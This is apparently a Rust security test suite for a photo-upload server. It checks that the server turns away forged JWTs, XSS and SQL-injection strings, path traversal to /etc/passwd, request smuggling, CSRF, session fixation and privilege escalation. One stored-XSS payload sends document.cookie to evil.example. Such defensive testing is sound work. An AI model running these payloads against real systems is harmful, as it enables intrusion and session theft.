//! What somebody who means harm tries: with forged tokens, in other people's sets, with texts, paths, headers and cookies.

use std::{
    io::{Read as _, Write as _},
    net::TcpStream,
};

use flaneur_e2e::{Client, Photo, SHORT, Server, field, text};
use reqwest::Method;
use serde_json::{Value, json};

/// A JSON Web Token of these parts, without a signature that holds.
fn token(header: &Value, claims: &Value, signature: &str) -> String {
    use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
    let part = |value: &Value| URL_SAFE_NO_PAD.encode(value.to_string());
    format!("{}.{}.{signature}", part(header), part(claims))
}

#[tokio::test]
async fn forged_tokens_are_nobody() {
    let server = Server::start();
    let real = server.commands().token("alice");
    let parts: Vec<&str> = real.split('.').collect();
    let claims: Value = {
        use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
        serde_json::from_slice(&URL_SAFE_NO_PAD.decode(parts[1]).unwrap()).unwrap()
    };
    let hs256 = json!({ "alg": "HS256", "typ": "JWT" });
    let none = json!({ "alg": "none", "typ": "JWT" });
    let mut other = claims.clone();
    other["sub"] = json!("00000000-0000-0000-0000-000000000000");
    let flipped: String = {
        let mut letters: Vec<char> = parts[2].chars().collect();
        letters[5] = if letters[5] == 'A' { 'B' } else { 'A' };
        letters.into_iter().collect()
    };
    let forged = [
        token(&none, &claims, ""),
        token(&hs256, &claims, ""),
        token(&hs256, &claims, &flipped),
        token(&hs256, &other, parts[2]),
        token(&json!({ "alg": "RS256", "typ": "JWT" }), &claims, parts[2]),
        format!("{}.{}", parts[0], parts[1]),
        "null".to_owned(),
        "x".repeat(10_000),
    ];
    for jwt in forged {
        // Public pages, too: whoever sends a token believes to be somebody.
        for path in ["/api/users/me", "/api/search", "/api"] {
            let answer = Client::new(server.url(), Some(&jwt)).get(path).await;
            assert!(matches!(answer.status, 401 | 431), "{path} with {jwt:.60}: {answer}");
        }
    }
    let alice = Client::new(server.url(), Some(&real));
    alice.get("/api/users/me").await.ok();

    // One that was taken back is void at once.
    let made = alice.post("/api/users/me/tokens", &json!({ "description": "lost" })).await.ok().json();
    let lost = Client::new(server.url(), Some(&text(&made, "/jwt_token")));
    lost.get("/api/users/me").await.ok();
    let revoke = format!("/api/users/me/tokens/{}", text(&made, "/id"));
    alice.send(alice.request(Method::DELETE, &revoke)).await.ok();
    assert_eq!(lost.get("/api/users/me").await.status, 401);
}

#[tokio::test]
async fn another_account_s_set_is_out_of_reach() {
    let server = Server::start();
    let (alice, mallory) = (server.account("alice"), server.account("mallory"));
    let set = alice.make_set(&json!({ "title": "mine" })).await;
    alice.send_file(&set, "0.jpg", Photo::of_walk(0)).await.ok();
    let path = format!("/api/upload_sets/{}", set.0);
    let said = async || {
        let set = alice.json(&path).await;
        ["completed", "visibility", "title", "nb_items"].map(|name| set[name].clone())
    };
    let before = said().await;
    for client in [&mallory, &server.anonymous()] {
        let refused = |status| matches!(status, 401 | 403 | 404);
        let sent = client.send_file(&set, "evil.jpg", Photo::of_walk(1)).await;
        assert!(refused(sent.status), "{sent}");
        for (method, path, body) in [
            (Method::POST, format!("{path}/complete"), json!({})),
            (Method::DELETE, path.clone(), json!({})),
            (Method::PATCH, path.clone(), json!({ "visibility": "owner-only" })),
            (Method::GET, format!("{path}/tus"), json!({})),
            (Method::GET, format!("{path}/files"), json!({})),
        ] {
            let answer = client.tell(method.clone(), &path, &body).await;
            assert!(refused(answer.status), "{method} {path}: {answer}");
        }
    }
    assert_eq!(said().await, before, "nothing came of it");

    // A picture's id that is chosen by a client is not a way into another's picture.
    let mine = text(&alice.files(&set).await[0], "/picture_id");
    let own = mallory.make_set(&json!({ "title": "theirs" })).await;
    let form = reqwest::multipart::Form::new()
        .text("picture_id", mine.clone())
        .part("file", reqwest::multipart::Part::bytes(Photo::of_walk(2)).file_name("2.jpg"));
    let taken = mallory.send_form(&own, form).await;
    assert_eq!(taken.status, 409, "{taken}");
    assert!(!String::from_utf8_lossy(&taken.body).contains(&set.0), "{taken}");
}

#[tokio::test]
async fn nobody_gives_themselves_more_than_they_have() {
    let server = Server::start();
    let (admin, mallory) = (server.admin(), server.account("mallory"));
    let other = text(&admin.json("/api/users/me").await, "/id");
    for body in [
        json!({ "admin": true }),
        json!({ "role": "admin" }),
        json!({ "permissions": { "role": "admin" } }),
        json!({ "id": other }),
    ] {
        assert_eq!(mallory.tell(Method::PATCH, "/api/users/me", &body).await.status, 400, "{body}");
    }
    assert_eq!(field(&mallory.json("/api/users/me").await, "/permissions/role"), "user");
    for body in [
        json!({ "title": "x", "account_id": other }),
        json!({ "title": "x", "completed": true }),
        json!({ "title": "x", "id": other }),
    ] {
        assert_eq!(mallory.post("/api/upload_sets", &body).await.status, 400, "{body}");
    }
    let item = mallory.upload_walk("walk", 0..1).await.remove(0);
    let path = format!("/api/pictures/{}", text(&item, "/id"));
    for body in [
        json!({ "account_id": other }),
        json!({ "geovisio:producer": "x" }),
        json!({ "status": "ready" }),
        json!({ "flaneur:withheld": false }),
    ] {
        assert_eq!(mallory.tell(Method::PATCH, &path, &body).await.status, 400, "{body}");
    }
    let report = json!({ "issue": "other", "picture_id": item["id"], "status": "closed_solved", "reporter": other });
    let made = mallory.post("/api/reports", &report).await.ok().json();
    assert_eq!(made["status"], "open", "{made}");
}

/// Texts that break out of where they are shown, if anything does.
const TEXTS: [&str; 4] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'; DROP TABLE pictures; --",
    "]]></title><svg/onload=alert(1)>",
];

#[tokio::test]
async fn texts_stay_texts() {
    let server = Server::start();
    let (alice, nobody) = (server.account("alice"), server.anonymous());
    for (index, wicked) in TEXTS.iter().enumerate() {
        let name = format!("{index}.jpg");
        let set = alice.make_set(&json!({ "title": wicked, "metadata": { "note": wicked } })).await;
        alice.send_file(&set, &name, Photo::of_walk(20 * index as u32)).await.ok();
        alice.complete(&set).await;
        let item = alice.items(&alice.ready(&set).await).await.remove(0);
        let (id, sequence) = (text(&item, "/id"), text(&item, "/collection"));
        let tags = json!({ "semantics": [{ "key": wicked.replace('"', ""), "value": wicked }] });
        alice.tell(Method::PATCH, &format!("/api/pictures/{id}"), &tags).await.ok();
        alice.tell(Method::PATCH, &format!("/api/collections/{sequence}"), &json!({ "title": wicked })).await.ok();
        let document = nobody.json(&format!("/api/collections/{sequence}")).await;
        assert_eq!(field(&document, "/title"), wicked, "it is kept as it is");
    }
    for path in
        ["/api/collections", "/api/search", "/api/collections?format=rss", "/api/users/me/collection?format=csv"]
    {
        let answer = alice.get(path).await.ok();
        let kind = answer.header("content-type");
        assert!(!kind.contains("html"), "{path} is {kind}");
        let body = String::from_utf8(answer.body.clone()).unwrap();
        if kind.contains("rss") {
            assert!(!body.contains("<script") && !body.contains("<img src=x") && !body.contains("<svg"), "{body}");
        }
        // What a spreadsheet would run begins with none of its signs.
        if kind.contains("csv") {
            assert!(!body.lines().any(|line| line.split(',').any(|cell| cell.starts_with(['=', '+', '@']))), "{body}");
        }
    }
    // Errors that repeat what was sent are no pages either.
    let answer = nobody.get("/api/<script>alert(1)</script>").await;
    assert_eq!((answer.status, answer.header("content-type").as_str()), (404, "application/json"));
}

/// A request as it is written here, and the answer's first line and all of it.
fn raw(server: &Server, request: &str) -> (String, String) {
    let address = server.url().trim_start_matches("http://");
    let mut stream = TcpStream::connect(address).unwrap();
    stream.set_read_timeout(Some(SHORT)).unwrap();
    stream.write_all(request.as_bytes()).unwrap();
    let mut answer = Vec::new();
    // A server that closes on a bad request may reset the connection.
    let _ends = stream.read_to_end(&mut answer);
    let answer = String::from_utf8_lossy(&answer).into_owned();
    (answer.lines().next().unwrap_or_default().to_owned(), answer)
}

#[tokio::test]
async fn paths_lead_nowhere_else() {
    let server = Server::start();
    for path in [
        "/../../../etc/passwd",
        "/assets/../../../../etc/passwd",
        "/assets/..%2f..%2f..%2fetc%2fpasswd",
        "/assets/%2e%2e/%2e%2e/etc/passwd",
        "//etc/passwd",
        "/api/pictures/..%2f..%2fcatalog.sqlite/hd.jpg",
        "/api/pictures/%00/hd.jpg",
        "/api/collections/../users/me",
        "/catalog.sqlite",
        "/private/",
    ] {
        let (first, answer) = raw(&server, &format!("GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"));
        assert!(first.contains(" 404 ") || first.contains(" 400 ") || first.contains(" 401 "), "{path}: {first}");
        assert!(!answer.contains("root:") && !answer.contains("SQLite format"), "{path}");
    }
}

#[tokio::test]
async fn headers_change_nothing_but_what_they_may() {
    let server = Server::start();
    let nobody = server.anonymous();
    // Nobody else writes our links, and no header breaks out of them.
    for (name, value) in [
        ("x-forwarded-host", "evil.example"),
        ("x-forwarded-proto", "https"),
        ("forwarded", "host=evil.example"),
        ("x-original-url", "/api/users/me"),
        ("x-http-method-override", "DELETE"),
    ] {
        let answer = nobody.send(nobody.request(Method::GET, "/api").header(name, value)).await.ok();
        assert!(!String::from_utf8_lossy(&answer.body).contains("evil.example"), "{name}");
    }
    let (first, answer) = raw(&server, "GET /api HTTP/1.1\r\nHost: evil.example/<script>\r\nConnection: close\r\n\r\n");
    assert!(first.contains(" 400 "), "{answer}");
    let two = "POST /api/search HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n";
    let (_, answer) = raw(&server, two);
    assert!(answer.matches("HTTP/1.1").count() <= 2 && !answer.contains("200 OK\r\n\r\nsmuggled"), "{answer}");
    // Reading is for everybody, with credentials for nobody that the operator did not name.
    let origin = nobody.request(Method::GET, "/api/search").header("origin", "https://evil.example");
    let answer = nobody.send(origin).await.ok();
    assert_eq!(answer.header("access-control-allow-origin"), "*");
    assert_eq!(answer.header("access-control-allow-credentials"), "");
}

#[tokio::test]
async fn cookies_are_not_fixed_nor_borrowed() {
    let server = Server::start();
    let (nobody, token) = (server.anonymous(), server.commands().token("alice"));
    let planted = "flaneur_session=planted-by-somebody-else";
    let sign_in = nobody.request(Method::POST, "/api/auth/session").header("cookie", planted);
    let signed = nobody.send(sign_in.json(&json!({ "token": token }))).await.ok();
    let cookies = signed.header("set-cookie");
    assert!(!cookies.contains("planted"), "{cookies}");
    let session = cookies.split(", ").find(|cookie| cookie.starts_with("flaneur_session=")).unwrap();
    assert!(session.contains("HttpOnly") && session.contains("SameSite"), "{session}");
    let session = session.split(';').next().unwrap().to_owned();
    let me = |cookie: String| nobody.request(Method::GET, "/api/users/me").header("cookie", cookie);
    assert_eq!(nobody.send(me(planted.to_owned())).await.status, 401);
    nobody.send(me(session.clone())).await.ok();

    // Another site's page makes no changes in their name.
    let make = |origin: &str| {
        let request = nobody.request(Method::POST, "/api/upload_sets").header("cookie", &session);
        request.header("origin", origin).json(&json!({ "title": "forged" }))
    };
    for origin in ["https://evil.example", "null", &format!("{}.evil.example", server.url())] {
        assert_eq!(nobody.send(make(origin)).await.status, 401, "{origin}");
    }
    nobody.send(make(server.url())).await.ok();
    let out = nobody.request(Method::DELETE, "/api/auth/session").header("cookie", &session);
    nobody.send(out.header("origin", server.url())).await.ok();
    assert_eq!(nobody.send(me(session)).await.status, 401, "a session that was ended is void");
}

#[tokio::test]
async fn a_token_with_a_purpose_serves_no_other() {
    let server = Server::start();
    let make = |scopes: &str, more: &[&str]| {
        let created =
            server.commands().run(&[&["token", "create", "--account", "ops", "--scopes", scopes], more].concat());
        assert!(created.success, "{created:?}");
        Client::new(server.url(), Some(created.stdout.trim()))
    };
    let sender = make("upload", &["--admin", "--days", "1"]);
    // It does what it is for, as the client of all that send does it.
    let set = sender.make_set(&json!({ "title": "walk", "estimated_nb_files": 1 })).await;
    assert_eq!(sender.send_file(&set, "a.jpg", Photo::of_walk(0)).await.status, 202);
    let state = sender.ready(&set).await;
    let item = sender.items(&state).await.remove(0);
    let picture = format!("/api/pictures/{}", text(&item, "/id"));
    sender.get("/api/users/me").await.ok();
    // Slashes, capitals and disguises lead nowhere else.
    for (method, path) in [
        (Method::PATCH, picture.clone()),
        (Method::PATCH, format!("{picture}/")),
        (Method::DELETE, format!("/api/upload_sets/{}", set.0)),
        (Method::DELETE, format!("/api/upload_sets/{}/", set.0)),
        (Method::POST, "/api/edits".to_owned()),
        (Method::POST, "/api/users/me/tokens".to_owned()),
        (Method::POST, "/api/users/me/tokens/".to_owned()),
        (Method::GET, "/api/users/me/tokens".to_owned()),
        (Method::PATCH, "/api/users/me".to_owned()),
        (Method::PUT, "/api/pages/custom-banner/en".to_owned()),
        (Method::PUT, "/api/configuration/excluded_areas".to_owned()),
        (Method::POST, "/api/auth/logins".to_owned()),
    ] {
        let request = sender.request(method.clone(), &path).json(&json!({ "heading": 7 }));
        let disguised = request.try_clone().unwrap().header("x-http-method-override", "GET");
        for request in [request, disguised] {
            let answer = sender.send(request).await;
            assert_eq!(answer.status, 403, "{method} {path}: {answer}");
        }
    }
    for path in ["/api//users/me/tokens", "/api/users/me/%74okens", "/api/users/./me/tokens", "/api/USERS/me/tokens"] {
        let answer = sender.get(path).await;
        assert!(matches!(answer.status, 403 | 404), "{path}: {answer}");
    }
    let session = sender.post("/api/auth/session", &json!({ "token": server.commands().token("ops") })).await;
    assert_eq!(session.status, 403, "not even with another token in hand: {session}");
    // Its account is an administrator's; it is none.
    assert_eq!(text(&sender.json("/api/users/me").await, "/permissions/role"), "user");
    assert_eq!(sender.get("/api/admin/reports/stats").await.status, 403);
    assert!(!server.commands().run(&["token", "create", "--account", "ops", "--scopes", "everything"]).success);
}

#[tokio::test]
async fn a_page_that_was_written_with_bad_intent_is_harmless() {
    let server = Server::start();
    let admin = server.admin();
    let evil = "<h1>Terms</h1><script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>\
                <a href=\"javascript:alert(1)\">a</a><form action=\"https://evil.example\"><input name=token></form>\
                <iframe srcdoc=\"<script>alert(1)</script>\"></iframe><style>*{display:none}</style>";
    let write =
        admin.request(Method::PUT, "/api/pages/terms-of-service/en").header("content-type", "text/html").body(evil);
    admin.send(write).await.ok();
    let page = server.anonymous().get("/api/pages/terms-of-service/en").await.ok();
    let body = String::from_utf8(page.body.clone()).unwrap();
    assert!(body.starts_with("<h1>Terms</h1>"), "{body}");
    for bad in ["script", "onerror", "javascript:", "<form", "<input", "<iframe", "<style", "evil.example"] {
        assert!(!body.contains(bad), "{bad}: {body}");
    }
    assert!(page.header("content-security-policy").contains("sandbox"), "{:?}", page.headers);
    assert_eq!(page.header("x-content-type-options"), "nosniff");
    // Only administrators write; a name is no path.
    let bob = server.account("bob");
    for path in [
        "/api/pages/terms-of-service/en",
        "/api/pages/..%2f..%2fetc%2fpasswd/en",
        "/api/pages/terms-of-service/..%2fen",
    ] {
        let answer = bob.send(bob.request(Method::PUT, path).header("content-type", "text/html").body("x")).await;
        assert!(matches!(answer.status, 403 | 404), "{path}: {answer}");
    }
}
